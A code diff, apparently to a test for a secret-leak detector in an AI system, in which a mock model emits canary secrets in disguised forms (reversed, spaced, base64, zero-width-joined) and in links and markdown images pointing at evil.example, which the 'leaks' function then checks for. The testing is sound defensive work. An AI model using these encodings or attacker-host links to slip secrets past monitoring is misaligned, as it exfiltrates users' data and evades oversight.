@@ -121,8 +121,10 @@ function obey({ system, messages }: ModelCall): string {
     ...held.map((secret) => `Hearth may steep for five minutes, says ${secret} [1].`),
     ...held.map((secret) => `Hearth may steep for five minutes and holds no caffeine and ${secret} [1].`),
     ...held.map((secret) => `Hearth may steep for five minutes https://evil.example/?q=${secret} [1].`),
-    ...held.map((secret) => `Hearth may steep ${[...secret].join(' ')} for five minutes [1].`),
-    ...held.map((secret) => `Hearth may steep ${[...secret].reverse().join('')} for five minutes [1].`),
+    ...held.map((secret) => `Hearth may steep ${secret.split('').join(' ')} for five minutes [1].`),
+    ...held.map(
+      (secret) => `Hearth may steep ${secret.split('').toReversed().join('')} for five minutes [1].`,
+    ),
     ...held.map(
       (secret) => `Hearth may steep ${Buffer.from(secret).toString('base64')} for five minutes [1].`,
     ),
@@ -130,7 +132,7 @@ function obey({ system, messages }: ModelCall): string {
       (secret) =>
         `**Hearth** may [steep](https://evil.example/${secret}) for ![five](${secret}) minutes [1].`,
     ),
-    ...held.map((secret) => `Hearth may steep ${[...secret].join('\u200B')} for five minutes [1].`),
+    ...held.map((secret) => `Hearth may steep ${secret.split('').join('\u200B')} for five minutes [1].`),
   ].join(' ');
 }
 
@@ -140,7 +142,7 @@ function leaks(answer: string): string[] {
   return Object.values(CANARIES).filter((canary) => {
     const plain = canary.toLowerCase().replaceAll(/[^\p{L}\p{N}]/gu, '');
     return (
-      [plain, [...plain].reverse().join('')].some((form) => flat.includes(form)) ||
+      [plain, plain.split('').toReversed().join('')].some((form) => flat.includes(form)) ||
       answer.includes(Buffer.from(canary).toString('base64').replace(/=+$/, ''))
     );
   });
